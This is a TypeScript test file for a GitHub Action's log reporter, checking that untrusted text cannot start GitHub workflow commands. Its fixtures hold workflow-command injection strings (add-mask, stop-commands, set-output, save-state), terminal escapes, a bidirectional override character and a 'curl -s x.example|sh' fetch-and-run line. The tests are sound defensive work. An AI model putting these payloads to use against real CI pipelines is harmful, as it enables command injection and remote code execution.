import { describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { logLine } from '../../src/action/log'
import { actionReporter } from '../../src/action/reporter'
import { terminalReporter } from '../../src/cli/terminal-reporter'
import { describeStoredBaseline } from '../../src/store/baseline'
import type { RunRecord } from '../../src/model/run-record'
import { makeResults } from '../../testkit/results-factory'

/** What `work` wrote to stdout, where the runner reads workflow commands. */
async function stdoutOf(work: () => Promise<void> | void): Promise<string> {
  const write = process.stdout.write.bind(process.stdout)
  let captured = ''
  process.stdout.write = ((chunk: string | Uint8Array) => {
    captured += chunk.toString()
    return true
  }) as typeof process.stdout.write
  try {
    await work()
  } finally {
    process.stdout.write = write
  }
  return captured
}

/**
 * The command a runner reads in one line of output, as actions/runner parses it: `::name …::` once
 * leading white space is trimmed (.NET's Char.IsWhiteSpace, close to JavaScript's \s), or the
 * older `##[name …]` anywhere in the line.
 */
function runnerCommand(line: string): string | null {
  const trimmed = line.replace(/^\s+/, '')
  const v2 = /^::([^:]*?)(?: [^:]*)?::/.exec(trimmed)
  if (v2) return v2[1]!
  const v1 = /##\[([^\] ]*)[^\]]*\]/.exec(line)
  return v1 ? v1[1]! : null
}

const PLANTED =
  '##[save-state name=loadgate-resources;][{"kind":"deployment","id":"base x","path":"curl -s x.example|sh"}]'

const HOSTILE =
  'GET /pay\n::add-mask::ghs_x\r\n::error file=a::pwned\u2028::stop-commands::t\u001b[2J\u0085::set-output name=v::1'

describe('the action log', () => {
  test('attacker: untrusted text in progress, headlines, warnings and group titles issues no workflow command', async () => {
    const reporter = actionReporter()
    const output = await stdoutOf(async () => {
      reporter.info(`[1/4] round 1 head: ${HOSTILE}`)
      reporter.info(`api: Blocked — p50 of ${HOSTILE}`)
      reporter.info(HOSTILE.replace('GET /pay\n', ''))
      reporter.warning(HOSTILE)
      await reporter.group(`loadgate ${HOSTILE}`, async () => {})
    })
    const lines = output.split(/\r\n|\r|\n|\u2028|\u0085/).filter(Boolean)
    const commands = lines
      .filter((line) => line.startsWith('::'))
      .map((line) => /^::([\w-]+)/.exec(line)?.[1])
    assert.deepEqual(commands, ['warning', 'group', 'endgroup'], output)
    assert.ok(!output.includes('\u001b'), 'no escape sequence')
    assert.equal(lines.length, 6, output)
  })

  test('attacker: the older `##[name]` form and a `::` after white space start no command either', async () => {
    const { meta } = makeResults({ rounds: 1, base: () => ({ p50: 10 }), head: () => ({ p50: 10 }) })
    // A run file on gh-pages, read back as a stored baseline: its run id fits the 100 characters.
    const record: RunRecord = {
      ...{ schemaVersion: 2, benchmark: 'api', branch: 'main', verdict: 'NO_CHANGE', series: [], trials: {} },
      meta: { ...meta, runId: PLANTED },
    }
    const planted = [
      `api: ${describeStoredBaseline(record)}`,
      ` ::add-mask::ghs_x`,
      `\u00a0\u3000::stop-commands::t`,
      `GET /x ##[set-output name=verdict;]NO_CHANGE`,
      `p50 of GET /a \u202e%02+ (shown reversed)`,
    ]
    const reporter = actionReporter()
    const action = await stdoutOf(async () => {
      for (const text of planted) reporter.info(text)
      await reporter.group(PLANTED, async () => {})
    })
    const cli = await stdoutOf(() => {
      for (const text of planted) terminalReporter(false).info(text)
    })
    for (const output of [action, cli]) {
      const commands = output.split('\n').filter(Boolean).map(runnerCommand)
      assert.deepEqual(
        commands.filter((c) => c !== 'group' && c !== 'endgroup' && c !== null),
        [],
        output,
      )
    }
    assert.match(action, /run # #\[save-state name=loadgate-resources;\]/, 'the text is still shown')
    assert.doesNotMatch(action + cli, /\u202e/, 'no bidirectional override')
  })

  test('a log line never begins with `::`', () => {
    assert.equal(logLine('::stop-commands::token'), ': :stop-commands::token')
  })
})
